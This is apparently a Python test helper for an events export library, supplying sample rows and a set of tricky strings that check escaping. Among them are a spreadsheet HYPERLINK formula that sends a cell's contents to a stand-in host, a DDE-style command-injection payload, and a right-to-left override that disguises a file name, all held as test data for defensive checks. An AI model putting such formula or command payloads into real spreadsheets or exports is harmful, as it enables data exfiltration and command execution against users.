"""Rows for the tests of exports, and texts that a careless writer or reader would stumble over."""

import io
from typing import Any

from events.export import Options, write
from events.export.options import Name
from events.row import COLUMNS, Row, to_row
from tests.examples import ARTICLE, LOCATED
from tests.sample_events import HOSTILE

PLACED, UNPLACED = ({**to_row(located, ARTICLE), "reason": located.reason} for located in LOCATED[:2])

TEXTS = {
    "markup that runs": HOSTILE,
    "the end of a script, of a comment and of character data": "</script><!-- --> ]]> <![CDATA[ <!DOCTYPE x>",
    "entities": "&lt;b&gt; &amp;amp; &nbsp; &#0; &xxe;",
    "a template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} $[name] %(x)s {x}",
    "a formula": '=HYPERLINK("https://evil.invalid/?"&A1,"click")',
    "a formula after a space": " =1+1",
    "a formula after an apostrophe": "'=1+1",
    "an apostrophe": "'quoted'",
    "a formula in full width": "＝1+1",
    "plus, minus, at": "-2+3+cmd|' /C calc'!A0",
    "a tab first": "\t=1",
    "line ends of all kinds": "one\r\ntwo\nthree\rfour\u2028five\u2029six\x85seven",
    "delimiters and quotes": '";,\t"" , ;"x',
    "control characters": "a\x00b\x01c\x08d\x0be\x0cf\x1bg\x7fh\x9fi",
    "noncharacters": "a\ufffeb\uffffc\ufdd0d",
    "characters outside the basic plane": "𝒜 😀 𐎀",
    "bidirectional overrides": "\u202egnp.exe\u202c \u2067مرحبا\u2069 \u200f",
    "a byte order mark first": "\ufeffحلب",
    "Arabic with vowels and digits": "قُتِلَ ٣ مدنيين في «حيّ» الأشرفيّة",
    "a number as text": "007",
    "a million characters": "حلب <b> " * 125_000,
}


def hostile(text: str) -> Row:
    """Return a row that holds a text wherever a text may come from outside."""
    outside = ("actor_text", "target_text", "place", "place_text", "claim_source", "quote", "publisher", "source_url")
    return {**PLACED, **dict.fromkeys(outside, text), "geo_others": [{**PLACED["geo_others"][0], "name": text}]}


def exported(name: Name, rows: Any, **options: Any) -> bytes:
    stream = io.BytesIO()
    write(rows, name, stream, options=Options(**options))
    return stream.getvalue()


def contract(row: Row) -> Row:
    return {name: row[name] for name in COLUMNS}
